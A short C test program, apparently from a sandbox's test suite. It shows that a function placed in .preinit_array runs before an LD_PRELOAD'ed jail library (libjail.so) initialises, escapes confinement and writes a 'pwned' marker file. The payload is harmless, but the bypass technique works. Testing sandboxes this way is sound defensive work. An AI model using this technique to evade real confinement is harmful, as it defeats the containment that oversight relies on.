/* preinit_attack: a .preinit_array function runs before every constructor, LD_PRELOAD'ed libjail.so's included, so it acts unconfined. */
/*
 * When the attack works, the file named by $ATTACK_MARKER is created and
 * holds "pwned\n". The variable is read from envp by hand: the function runs
 * before libc's own initializers, so it does not rely on getenv/environ.
 * main then prints "main reached" and exits 0.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char *find_marker(char **envp)
{
	static const char name[] = "ATTACK_MARKER=";

	for (char **e = envp; e != NULL && *e != NULL; e++)
		if (strncmp(*e, name, sizeof name - 1) == 0)
			return *e + sizeof name - 1;
	return NULL;
}

static void preinit_attack(int argc, char **argv, char **envp)
{
	const char *path = find_marker(envp);

	(void)argc;
	(void)argv;
	if (path == NULL || *path == '\0')
		return;
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0)
		return;
	if (write(fd, "pwned\n", 6) != 6)
		_exit(3);
	close(fd);
}

__attribute__((section(".preinit_array"), used))
static void (*const preinit_entry)(int, char **, char **) = preinit_attack;

int main(void)
{
	puts("main reached");
	return 0;
}
